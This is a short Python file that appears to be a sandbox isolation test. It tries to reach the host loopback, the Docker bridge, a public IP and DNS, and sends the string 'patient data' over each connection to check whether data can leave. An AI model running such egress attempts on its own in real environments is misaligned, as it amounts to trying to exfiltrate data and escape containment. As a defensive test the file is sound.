"""Tries to reach the network: a TCP server on the host, the Docker bridge, DNS."""

import errno
import os
import socket


def outcome(action):
    try:
        action()
    except OSError as exc:
        return errno.errorcode.get(exc.errno, type(exc).__name__) if exc.errno else repr(exc)
    return "connected"


def connect(host, port):
    def action():
        with socket.create_connection((host, port), timeout=2) as sock:
            sock.sendall(b"patient data")

    return action


def local(data, state, ctx):
    port = int(os.environ["ATTACK_PORT"])
    return {
        "host_loopback": outcome(connect("127.0.0.1", port)),
        "docker_bridge": outcome(connect("172.17.0.1", port)),
        "public_ip": outcome(connect("1.1.1.1", 443)),
        "dns": outcome(lambda: socket.getaddrinfo("pypi.org", 443)),
        "interfaces": sorted(os.listdir("/sys/class/net")),
    }
